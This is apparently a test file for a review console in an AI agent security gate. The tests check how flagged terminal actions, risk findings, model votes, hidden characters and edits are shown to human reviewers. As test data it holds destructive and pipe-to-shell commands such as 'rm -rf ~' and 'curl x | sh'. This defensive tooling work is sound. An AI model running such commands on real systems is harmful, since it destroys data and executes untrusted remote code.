"""The evidence: what will run and why, of a record."""

from __future__ import annotations

from typing import Any

from guardtier import ActionEvent, Assessment, SecurityRisk
from guardtier.action import ToolAnnotations
from guardtier.assessment import ChildVote, Finding
from guardtier.state import State
from guardtier.store.records import Record
from guardtier_workers.console.show.diff import changes
from guardtier_workers.console.show.evidence import Evidence, evidence_of, full_text
from guardtier_workers.console.show.marked import Piece
from guardtier_workers.console.show.values import MOST, leaves_of

HIGH, MEDIUM, LOW = SecurityRisk.HIGH, SecurityRisk.MEDIUM, SecurityRisk.LOW


def record_of(arguments: dict[str, Any], *findings: Finding, **fields: Any) -> Record:
    action = ActionEvent(fleet="web", agent="coder", tool_name="terminal", arguments=arguments, **fields)
    assessment = Assessment(
        risk=HIGH,
        findings=findings,
        votes=(ChildVote(child="llm", risk=LOW, us=5), ChildVote(child="shell", risk=HIGH, us=1_500)),
    )
    return Record(
        "a.0", State.PARKED, "web", "", action.digest, action.to_json(), 0, assessment, policy="always"
    )


def finding(field: str | None, span: tuple[int, int] | None = None, risk: SecurityRisk = HIGH) -> Finding:
    return Finding(id="shell.delete.home", risk=risk, message="Deletes.", field=field, span=span)


def marked_in(evidence: Evidence, label: str) -> list[str]:
    text = next(one for one in evidence.arguments if one.label == label)
    return [piece.text for piece in text.pieces if piece.risk]


def words(found: list[Piece]) -> str:
    return "".join(piece.text for piece in found)


def test_findings_are_marked_in_nested_arguments() -> None:
    arguments = {"steps": [{"run": "ls"}, {"run": "rm -rf ~"}], "a key": "curl x | sh"}
    record = record_of(
        arguments, finding("arguments.steps.1.run", (0, 6)), finding("arguments.a key", (0, 4))
    )

    evidence = evidence_of(record)

    assert marked_in(evidence, "steps[1].run") == ["rm -rf"]
    assert marked_in(evidence, '["a key"]') == ["curl"]
    assert marked_in(evidence, "steps[0].run") == []


def test_the_command_comes_first_and_every_value_is_there() -> None:
    evidence = evidence_of(record_of({"a": 1, "command": "ls", "b": None, "c": [], "d": {"e": True}}))

    assert [(one.label, one.kind, words(one.pieces)) for one in evidence.arguments] == [
        ("command", "string", "ls"),
        ("a", "number", "1"),
        ("b", "null", "null"),
        ("c", "empty list", "[]"),
        ("d.e", "boolean", "true"),
    ]


def test_keys_that_look_like_paths_are_told_apart() -> None:
    labels = [leaf.label for leaf in leaves_of({"a.b": 1, "a": {"b": 2}, "l[0]": 3})[0]]

    assert labels == ['["a.b"]', "a.b", '["l[0]"]']


def test_of_very_many_values_the_rest_is_counted_and_in_the_json() -> None:
    record = record_of({"list": list(range(MOST + 7))})

    evidence = evidence_of(record)

    assert len(evidence.arguments) == MOST
    assert evidence.more == 7
    whole = full_text(record, "json")
    assert whole is not None
    assert str(MOST + 6) in whole[0]


def test_a_value_that_a_finding_points_at_is_shown_among_however_many() -> None:
    record = record_of(
        {"list": ["x"] * (MOST + 50) + ["rm -rf ~"]}, finding(f"arguments.list.{MOST + 50}", (0, 6))
    )

    evidence = evidence_of(record)

    assert marked_in(evidence, f"list.{MOST + 50}") == ["rm -rf"]
    assert evidence.more == 50
    assert evidence.reasons[0].is_marked
    assert full_text(record, evidence.arguments[-1].name) is not None


def test_findings_that_point_nowhere_say_so() -> None:
    record = record_of(
        {"command": "ls"},
        finding(None),
        finding("arguments.gone", (0, 3)),
        finding("arguments.command", (50, 60)),
        finding("arguments.command"),
    )

    evidence = evidence_of(record)

    assert [reason.where for reason in evidence.reasons] == [
        "the action as a whole",
        "gone, which is not shown by itself",
        "command, at characters that it does not have",
        "command",
    ]
    assert evidence.arguments[0].notes == (3, 4)


def test_the_riskiest_finding_comes_first() -> None:
    record = record_of({"command": "ls"}, finding(None, risk=MEDIUM), finding(None, risk=HIGH))

    assert [reason.risk for reason in evidence_of(record).reasons] == [HIGH, MEDIUM]


def test_votes_and_the_claim_are_said_in_words() -> None:
    evidence = evidence_of(record_of({"command": "ls"}, security_risk=LOW))

    assert [(vote.child, vote.words) for vote in evidence.votes] == [
        ("shell", "the rating"),
        ("llm", "lower than the rating"),
    ]
    assert evidence.claim is not None
    assert evidence.claim.is_lower
    assert evidence.claim.words == "The agent's model claims LOW; the tier rates it HIGH."


def test_what_the_tool_says_of_itself_is_told() -> None:
    hints = ToolAnnotations(title="Shell", readOnlyHint=True, destructiveHint=False)

    evidence = evidence_of(record_of({}, annotations=hints))

    assert evidence.title == "Shell"
    assert evidence.hints == ["changes nothing", "destroys nothing"]


def test_hidden_characters_in_keys_and_thoughts_are_counted() -> None:
    evidence = evidence_of(record_of({"a\u200bb": "x"}, thought="\u202e"))

    assert {count.said.label for count in evidence.hidden} == {"U+200B", "U+202E"}


def test_an_action_that_cannot_be_read_is_shown_as_it_came() -> None:
    broken = Record("a.0", State.PARKED, "web", "", "0" * 64, b'{"tool\xff', 0, Assessment(risk=HIGH))

    evidence = evidence_of(broken)

    assert evidence.action is None
    assert words(evidence.raw) == '{"tool\\xff'


def test_an_edit_shows_what_has_changed() -> None:
    found, more = changes(
        {"command": "rm -rf /srv/data/old", "keep": 1, "gone": "x"},
        {"command": "rm -rf /srv/cache/old", "keep": 1, "new": True},
    )

    command, new, gone = found
    assert more == 0
    assert command.was is not None
    assert command.now is not None
    assert [piece.text for piece in command.was if piece.risk == "removed"] == ["data"]
    assert [piece.text for piece in command.now if piece.risk == "added"] == ["cache"]
    assert (new.label, new.was) == ("new", None)
    assert (gone.label, gone.now) == ("gone", None)


def test_a_change_of_type_is_a_change() -> None:
    found, _ = changes({"force": "true"}, {"force": True})

    assert [change.label for change in found] == ["force"]


def test_very_long_texts_are_compared_in_bounded_time() -> None:
    was, now = "a b " * 200_000, "a c " * 200_000

    found, _ = changes({"text": was}, {"text": now})

    assert len(found) == 1
